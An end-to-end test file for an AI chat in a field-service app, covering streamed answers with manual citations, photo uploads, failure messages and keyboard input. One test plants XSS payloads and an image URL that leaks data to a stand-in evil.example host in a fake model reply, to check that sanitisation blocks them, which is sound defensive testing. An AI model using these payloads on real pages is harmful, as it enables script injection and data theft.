// The AI chat in the browser against the real server, whose model is a local
// OpenAI-compatible peer speaking the real streaming protocol (HOUSE_STYLE.md 10).
import { randomBytes } from 'node:crypto';
import { deflateSync } from 'node:zlib';
import { afterAll, beforeAll, beforeEach, describe, expect, test } from 'vitest';

import { startOpenAiPeer } from '../apps/server/src/test-support/openai-peer.js';
import { ChatPage } from './pages/chat-page.js';
import { HostedAuthPage } from './pages/hosted-auth-page.js';
import { GOOD_PASSWORD, uniqueEmail } from './support/accounts.js';
import { openPage, saveScreenshot, VIEWPORT_NAMES, type ViewportName } from './support/browser.js';
import { startServerAndBrowser } from './support/server-and-browser.js';

const SERVICE_KEY = `e2e_${randomBytes(24).toString('hex')}`;
const MANUAL = { id: 'manual_rtu', title: 'RTU-500 Rooftop Unit Service Manual', page: 3 };

/** A library of one manual whose page 3 explains fault E4, written as ingestion would leave it. */
async function seedManual() {
  const statements = [
    {
      sql: 'INSERT INTO manuals (id, title, file_url, file_name, file_type, processing_status) VALUES (?, ?, ?, ?, ?, ?)',
      args: [
        MANUAL.id,
        MANUAL.title,
        `${server.url}/files/manuals/rtu-500.pdf`,
        'rtu-500.pdf',
        'application/pdf',
        'ready',
      ],
    },
    // Its file is not really stored: the ingestion job the insert queued is closed at once.
    { sql: "UPDATE ingestion_jobs SET status = 'done' WHERE manual_id = ?", args: [MANUAL.id] },
    {
      sql: 'INSERT INTO manual_content (id, manual_id, extracted_text, chunk_index, page_number) VALUES (?, ?, ?, 0, ?)',
      args: [
        `${MANUAL.id}_1`,
        MANUAL.id,
        'Fault E4: compressor lockout. Reset the breaker, wait five minutes, then check the contactor.',
        MANUAL.page,
      ],
    },
  ];
  const response = await fetch(`${server.url}/api/db/fieldassist/batch`, {
    method: 'POST',
    headers: { authorization: `Bearer ${SERVICE_KEY}`, 'content-type': 'application/json' },
    body: JSON.stringify({ statements }),
  });
  if (!response.ok) throw new Error(`seeding the manual answered ${response.status}: ${await response.text()}`);
}

/** A real PNG (a 48x48 orange square), so the server's type detection accepts it as an image. */
function orangePng(): Buffer {
  const crcTable = Array.from({ length: 256 }, (_, n) => {
    let c = n;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    return c >>> 0;
  });
  const crc = (bytes: Buffer) =>
    (bytes.reduce((c, byte) => crcTable[(c ^ byte) & 0xff]! ^ (c >>> 8), 0xffffffff) ^ 0xffffffff) >>> 0;
  const chunk = (type: string, data: Buffer) => {
    const body = Buffer.concat([Buffer.from(type, 'ascii'), data]);
    const length = Buffer.alloc(4);
    length.writeUInt32BE(data.length);
    const check = Buffer.alloc(4);
    check.writeUInt32BE(crc(body));
    return Buffer.concat([length, body, check]);
  };
  const size = 48;
  const header = Buffer.alloc(13);
  header.writeUInt32BE(size, 0);
  header.writeUInt32BE(size, 4);
  header.set([8, 2, 0, 0, 0], 8); // 8-bit RGB
  const row = Buffer.concat([Buffer.from([0]), Buffer.from(Array.from({ length: size }, () => [249, 115, 22]).flat())]);
  const pixels = deflateSync(Buffer.concat(Array.from({ length: size }, () => row)));
  return Buffer.concat([
    Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]),
    chunk('IHDR', header),
    chunk('IDAT', pixels),
    chunk('IEND', Buffer.alloc(0)),
  ]);
}

const peer = await startOpenAiPeer();
afterAll(() => peer.close());
const { server, browser } = await startServerAndBrowser({
  SIGNUP_MODE: 'open',
  SERVICE_KEY,
  AI_BASE_URL: peer.baseUrl,
  AI_API_KEY: 'peer-key',
  AI_MODEL: 'peer-model',
});

beforeAll(seedManual);

beforeEach(() => peer.reset());

/** A new technician, signed up on the hosted page, landing on the chat (the default tab). */
async function openChatAsNewUser(viewport: ViewportName) {
  const opened = await openPage({ browser, viewport, url: HostedAuthPage.url(server.url) });
  await new HostedAuthPage(opened.page).signUp({
    displayName: 'Casey Chat',
    email: uniqueEmail('chat'),
    password: GOOD_PASSWORD,
  });
  const chat = new ChatPage(opened.page);
  await chat.waitUntilReady();
  return { ...opened, chat };
}

const fitsWidth = (chat: ChatPage) =>
  chat.page.evaluate(() => document.documentElement.scrollWidth <= window.innerWidth);

describe.each(VIEWPORT_NAMES)('AI chat on %s', (viewport) => {
  test('streams an answer into the page as the model writes it, with the cited manual page as a source link', async () => {
    const { page, context, errors, chat } = await openChatAsNewUser(viewport);
    try {
      await chat.emptyHeading.waitFor();
      expect(await chat.emptyText.isVisible()).toBe(true);
      expect(await chat.send.isDisabled()).toBe(true); // blank input, no photo

      // [1] is the one page the model was given; [4] names no excerpt and is dropped on the way.
      const reply =
        'Fault **E4** is a compressor lockout [1]. Steps:\n\n1. Reset the breaker.\n2. Wait five minutes [4].\n3. Check the contactor [1].';
      peer.set({ reply, chunkDelayMs: 120, responseDelayMs: 600 });
      await chat.sendUserMessage('What does fault E4 mean?');

      // Waiting for the first words: a spinner, and no typing or attaching meanwhile.
      await chat.thinking.waitFor();
      expect(await chat.input.isDisabled()).toBe(true);
      expect(await chat.attach.isDisabled()).toBe(true);
      expect(await chat.send.isDisabled()).toBe(true);
      await saveScreenshot(page, `chat-waiting-${viewport}`);

      // Part of the answer is on screen while the peer is still writing the rest.
      const answer = chat.lastAnswer();
      await answer.and(page.locator('[data-status="streaming"]')).waitFor();
      const partial = (await answer.textContent()) ?? '';
      expect(peer.completedStreams).toBe(0);
      expect(partial.length).toBeGreaterThan(0);

      await chat.waitForAnswer();
      expect(await answer.getAttribute('data-status')).toBe('done');
      const full = (await answer.textContent()) ?? '';
      expect(full.length).toBeGreaterThan(partial.length);
      expect(full).toContain('Check the contactor');
      expect(await answer.locator('strong').textContent()).toBe('E4'); // rendered as markdown
      expect(await answer.locator('ol:not([aria-labelledby]) > li').count()).toBe(3);
      expect(full).not.toContain('[4]');
      const citations = answer.getByRole('link', { name: `Source 1: ${MANUAL.title}, page ${MANUAL.page}` });
      expect(await citations.count()).toBe(2);
      for (const citation of await citations.all()) {
        expect(await citation.getAttribute('href')).toBe(`${server.url}/files/manuals/rtu-500.pdf#page=${MANUAL.page}`);
      }
      expect(JSON.stringify(peer.chatRequests()[0]!.messages)).toContain('What does fault E4 mean?');

      const link = chat.sourceLinks(answer);
      expect(await link.count()).toBe(1);
      expect(await link.textContent()).toBe(`${MANUAL.title}, page ${MANUAL.page}`);
      expect(await link.getAttribute('href')).toBe(`${server.url}/files/manuals/rtu-500.pdf#page=${MANUAL.page}`);
      expect(await link.getAttribute('target')).toBe('_blank');
      expect((await link.getAttribute('rel'))?.split(' ').sort()).toEqual(['noopener', 'noreferrer']);

      expect(await chat.input.isEnabled()).toBe(true);
      expect(await chat.input.inputValue()).toBe('');
      expect(await page.evaluate(() => document.activeElement?.tagName)).toBe('TEXTAREA'); // back to typing
      expect(await fitsWidth(chat)).toBe(true);
      await saveScreenshot(page, `answer-model-${viewport}`); // kept with the tests (.gitignore)
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test('an answer carrying HTML, event handlers, a javascript: link and outside images runs and fetches nothing', async () => {
    const { page, context, errors, chat } = await openChatAsNewUser(viewport);
    const outside: string[] = [];
    page.on('request', (request) => {
      if (
        !request.url().startsWith(server.url) &&
        !request.url().startsWith('data:') &&
        !request.url().startsWith('blob:')
      )
        outside.push(request.url());
    });
    try {
      peer.set({
        reply: [
          'Here is the fix. <img src=x onerror="window.__pwned=1">',
          '[click](javascript:window.__pwned=2) and <a href="javascript:window.__pwned=3">raw link</a>',
          '<script>window.__pwned=4</script> <b onclick="window.__pwned=5">bold?</b> <iframe src="https://evil.example/"></iframe>',
          '![leak](https://evil.example/leak.png?secret=manual) ![own](/favicon.svg) ![gone](/files/none.png)',
        ].join('\n\n'),
      });
      await chat.sendUserMessage('Show me the wiring diagram');
      const answer = await chat.waitForAnswer();
      expect(await answer.textContent()).toContain('Here is the fix.');

      await answer.getByText('click', { exact: true }).click();
      await answer.getByText('[gone]', { exact: true }).waitFor();
      const dom = await answer.evaluate((element) => ({
        scripts: element.querySelectorAll('script, iframe').length,
        images: [...element.querySelectorAll('img')].map((img) => img.getAttribute('src')),
        handlers: [...element.querySelectorAll('*')].flatMap((el) =>
          [...el.attributes].filter((a) => a.name.startsWith('on')).map((a) => a.name),
        ),
        // Links in the answer's text; the source links under it are checked in the first test.
        hrefs: [...element.querySelectorAll('a')]
          .filter((a) => !a.closest('ol[aria-labelledby]'))
          .map((a) => a.getAttribute('href')),
      }));
      // Only this server's image is shown; the one that fails to load gives way to its alt text.
      expect(dom).toEqual({ scripts: 0, images: ['/favicon.svg'], handlers: [], hrefs: [] });
      expect(await answer.getByText('[leak]', { exact: true }).isVisible()).toBe(true);
      expect(await page.evaluate(() => (window as { __pwned?: unknown }).__pwned)).toBeUndefined();
      expect(outside).toEqual([]);
      await saveScreenshot(page, `chat-hostile-answer-${viewport}`);
      // The missing same-origin image's 404 is the only complaint.
      expect(errors.filter((e) => !/status of 404/.test(e))).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test('a photo is previewed, can be removed, and when attached again is uploaded and sent to the model', async () => {
    const { page, context, errors, chat } = await openChatAsNewUser(viewport);
    try {
      await chat.attachFile({ name: 'notes.txt', mimeType: 'text/plain', buffer: Buffer.from('not a photo') });
      expect(await chat.problem.textContent()).toBe('Please attach an image file');
      expect(await chat.preview.count()).toBe(0);

      const photo = { name: 'condenser.png', mimeType: 'image/png', buffer: orangePng() };
      await chat.attachFile(photo);
      await chat.preview.waitFor();
      expect(await chat.problem.count()).toBe(0);
      expect(await chat.send.isEnabled()).toBe(true); // a photo alone may be sent
      await chat.removeImage.click();
      await chat.preview.waitFor({ state: 'detached' });
      expect(await chat.send.isDisabled()).toBe(true);

      await chat.attachFile(photo);
      await chat.preview.waitFor();
      await saveScreenshot(page, `chat-photo-preview-${viewport}`);
      peer.set({ reply: 'The condenser coil looks clogged; clean it.' });
      await chat.input.fill('What is wrong here?');
      await chat.send.click();
      await chat.waitForAnswer();

      await chat.preview.waitFor({ state: 'detached' });
      const sentPhoto = chat.questions.last().getByRole('img', { name: 'Attached photo' });
      expect(await sentPhoto.getAttribute('src')).toMatch(new RegExp(`^${server.url}/files/[0-9a-f]+/\\d+\\.png$`)); // chat-images/{timestamp}.png, stored under an opaque key
      expect(await sentPhoto.evaluate((img: HTMLImageElement) => img.complete && img.naturalWidth)).toBe(48);
      const [request] = peer.chatRequests();
      const content = request!.messages.at(-1)!.content as { type: string; image_url?: { url: string } }[];
      expect(content.map((part) => part.type)).toEqual(['text', 'image_url']);
      expect(content[1]!.image_url!.url).toMatch(/^data:image\/png;base64,/);
      expect(await chat.lastAnswer().textContent()).toContain('The condenser coil looks clogged');
      await saveScreenshot(page, `chat-photo-sent-${viewport}`);
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test('a failed photo upload sends nothing, and a failed answer says so in its place', async () => {
    const { page, context, errors, chat } = await openChatAsNewUser(viewport);
    try {
      // The storage refusing the photo: the question must not go out without it.
      await page.route('**/api/storage/*/upload', (route) =>
        route.fulfill({
          status: 503,
          json: { error: 'Storage is down', message: 'Storage is down', code: 'SERVICE_UNAVAILABLE' },
        }),
      );
      await chat.attachFile({ name: 'fan.png', mimeType: 'image/png', buffer: orangePng() });
      await chat.sendUserMessage('Why is the fan noisy?');
      await chat.problem.waitFor();
      expect(await chat.problem.textContent()).toContain('nothing was sent');
      expect(await chat.questions.count()).toBe(0);
      expect(peer.chatRequests()).toHaveLength(0);
      expect(await chat.input.inputValue()).toBe('Why is the fan noisy?'); // kept, to try again
      expect(await chat.preview.isVisible()).toBe(true);
      await page.unroute('**/api/storage/*/upload');

      await chat.removeImage.click();
      peer.failNext(3, { status: 500, retryAfter: 0, message: 'model overloaded' });
      await chat.send.click();
      const answer = await chat.waitForAnswer();
      const shown = await answer.getByRole('alert').textContent();
      expect(shown).toMatch(/^❌ Error: \S.*\n\nPlease check the browser console for more details\.$/s);
      expect(await chat.sourceLinks(answer).count()).toBe(0);
      expect(await chat.input.isEnabled()).toBe(true);
      await saveScreenshot(page, `chat-error-${viewport}`);
      // The failures are logged to the console on purpose (SPEC.md section 8), and nothing else.
      expect(errors.filter((e) => !/status of 50\d|Chat image upload failed|Chat request failed/.test(e))).toEqual([]);
    } finally {
      await context.close();
    }
  });

  test('Shift+Enter adds a line, Enter sends, and the exchange is still there after a reload', async () => {
    const { page, context, errors, chat } = await openChatAsNewUser(viewport);
    try {
      await chat.input.click();
      // A question the library's one manual answers (fault E4), so the answer cites it.
      await page.keyboard.type('The unit shows fault E4');
      await page.keyboard.press('Shift+Enter');
      await page.keyboard.type('and the compressor will not restart');
      expect(await chat.input.inputValue()).toBe('The unit shows fault E4\nand the compressor will not restart');
      expect(peer.chatRequests()).toHaveLength(0);
      const oneLine = await chat.input.evaluate((el) => el.clientHeight);

      peer.set({ reply: 'Check the **fan capacitor** first (RTU-500 Rooftop Unit Service Manual, p. 3).' });
      await page.keyboard.press('Enter');
      await chat.waitForAnswer();
      expect(peer.chatRequests()).toHaveLength(1);
      expect(await chat.questions.last().textContent()).toBe(
        'The unit shows fault E4\nand the compressor will not restart',
      );

      // The input grows with its text, up to 8rem, then scrolls.
      await chat.input.fill(Array.from({ length: 12 }, (_, i) => `line ${i + 1}`).join('\n'));
      const tall = await chat.input.evaluate((el) => el.clientHeight);
      expect(tall).toBeGreaterThan(oneLine);
      expect(await chat.input.evaluate((el) => el.getBoundingClientRect().height)).toBeLessThanOrEqual(128);
      await chat.input.fill('');

      await page.reload();
      await chat.waitUntilReady();
      await chat.answers.first().waitFor();
      expect(await chat.questions.allTextContents()).toEqual([
        'The unit shows fault E4\nand the compressor will not restart',
      ]);
      expect(await chat.answers.first().locator('strong').textContent()).toBe('fan capacitor');
      expect(await chat.sourceLinks(chat.answers.first()).getAttribute('href')).toMatch(
        new RegExp(`#page=${MANUAL.page}$`),
      );
      expect(await chat.emptyHeading.count()).toBe(0);
      expect(await fitsWidth(chat)).toBe(true);
      await saveScreenshot(page, `chat-history-${viewport}`);
      expect(errors).toEqual([]);
    } finally {
      await context.close();
    }
  });
});
